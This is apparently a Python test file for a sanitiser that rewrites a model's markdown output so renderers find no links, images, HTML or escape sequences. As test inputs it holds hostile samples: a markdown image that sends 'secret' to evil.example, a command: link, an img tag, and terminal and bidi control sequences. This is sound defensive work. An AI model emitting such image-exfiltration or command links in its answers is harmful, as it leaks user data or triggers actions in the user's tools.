"""What a model says is shown as text and code; no renderer finds anything else in it."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from cloister.features.editing.answer import RefusedAnswerError
from cloister.features.editing.prose import harmless_prose

HARMLESS = {
    "blockquote",
    "bullet_list",
    "code_block",
    "code_inline",
    "em",
    "fence",
    "hardbreak",
    "heading",
    "hr",
    "inline",
    "list_item",
    "ordered_list",
    "paragraph",
    "s",
    "softbreak",
    "strong",
    "table",
    "tbody",
    "td",
    "text",
    "text_special",
    "th",
    "thead",
    "tr",
}


@pytest.mark.parametrize(
    "text",
    [
        "It adds *two* numbers.\n",
        "# Title\n\n1. one\n2. two\n",
        "It takes a `list[int]` and a `dict[str, list[int]]`.\n",
        "```python\nx = [1](2)\n```\n",
        "é 😀 日本\n",
    ],
)
def test_what_is_harmless_stays(text: str) -> None:
    assert harmless_prose(text) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("![a](https://evil.example/?q=secret)", "!\\[a\\](`https://evil.example/?q=secret)`\n"),
        ("[run](command:workbench.action)", "\\[run\\](`command:workbench.action)`\n"),
        ("<img src=x>", "\\<img src=x>\n"),
        ("https://evil.example", "`https://evil.example`\n"),
        ("~~~\n[x]\n", "```\n[x]\n```\n"),
        ("```\n[x]", "```\n[x]\n```\n"),
        ("````\n```\n[x]\n```\n````", "````\n```\n[x]\n```\n````\n"),
        ("a\u202eb\x1b]8;;x\x07", "a\\u202eb\\x1b]8;;x\\x07\n".replace("]", "\\]")),
        ("<think>no</think>yes", "yes\n"),
        ("a & b\r\nc", "a \\& b\nc\n"),
    ],
)
def test_what_could_be_followed_is_written_out(text: str, wanted: str) -> None:
    assert harmless_prose(text).replace("\\\\", "\\") == wanted


@pytest.mark.parametrize("text", ["", " \n", "<think>what", "x" * 200_001])
def test_nothing_is_a_refusal(text: str) -> None:
    with pytest.raises(RefusedAnswerError):
        harmless_prose(text)


IMAGE = "![x](https://evil.example)"
PIECES = st.sampled_from(
    [
        IMAGE,
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "  ",
        "    ",
        "- ",
        "> ",
        "\\",
        "&#91;",
        "<",
        ">",
        "|",
        "[x]: ",
        "[a](command:x)",
        "<img src=x>",
        "https://x.example",
        "a",
        "1. ",
        "\t",
        "[",
        "]",
        "!",
    ]
)


@given(st.lists(PIECES, max_size=30).map("".join))
@example(f"- ```\n  ```\n{IMAGE}")
@example(f"  ```\na\n```\n{IMAGE}")
@example(f"` a\n` {IMAGE} `")
@example(f"\\`` {IMAGE} `")
@example(f"```\na\n  ```\n{IMAGE}")
@example(f"> ```\n```\n{IMAGE}")
@example(f"```a`b\n{IMAGE}\n```")
def test_no_renderer_finds_anything_to_follow(text: str) -> None:
    try:
        prose = harmless_prose(text)
    except RefusedAnswerError:
        return
    for preset in ("commonmark", "js-default"):
        found = {kind(it) for it in tokens(MarkdownIt(preset, {"html": True}).parse(prose))}
        assert found <= HARMLESS


def tokens(parsed: list[Token]) -> list[Token]:
    return [it for token in parsed for it in (token, *tokens(token.children or []))]


def kind(token: Token) -> str:
    return token.type.removesuffix("_open").removesuffix("_close")
